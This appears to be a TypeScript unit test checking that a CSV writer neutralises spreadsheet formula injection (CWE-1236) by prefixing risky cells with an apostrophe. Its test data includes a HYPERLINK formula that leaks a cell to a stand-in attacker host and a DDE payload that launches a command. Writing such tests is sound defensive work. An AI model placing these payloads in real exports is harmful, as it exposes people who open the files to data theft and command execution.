import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { csvLine } from '../../src/core/index.ts';
import { formulaLead, parseCsv } from '../support/csv.ts';

describe('CSV cells a spreadsheet opens as text (CWE-1236)', () => {
  const hostile = [
    '=HYPERLINK("https://attacker.example/?leak="&A1,"Fix")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '\t=1+1',
    '\r=1+1',
  ];

  it("starts every text a spreadsheet would run as a formula with ', quoted, and reads back as that text", () => {
    for (const separator of [',', ';'] as const) {
      const line = csvLine(hostile, separator);
      const [cells] = parseCsv(`${line}\n`, separator);
      assert.deepEqual(
        cells,
        hostile.map((text) => `'${text}`),
      );
      assert.ok(cells!.every((cell) => !formulaLead.test(cell)));
    }
    assert.equal(csvLine(['@SUM(1+1)', '=1+2'], ';'), `"'@SUM(1+1)";"'=1+2"`);
  });

  it('writes a value the writer passes as a number as it is, and the same digits as text neutralized', () => {
    assert.equal(csvLine([-5, 0.5, '-5'], ','), `-5,0.5,"'-5"`);
  });

  it('leaves plain text as it is and quotes only what holds the separator, a quote or a line break', () => {
    assert.equal(
      csvLine(['arn:aws:sqs:us-east-1:1:orders', 'a,b', 'a;b', 'say "hi"', 'two\nlines'], ','),
      'arn:aws:sqs:us-east-1:1:orders,"a,b",a;b,"say ""hi""","two\nlines"',
    );
    assert.equal(csvLine(['a,b', 'a;b', null, undefined, true], ';'), 'a,b;"a;b";;;true');
  });
});
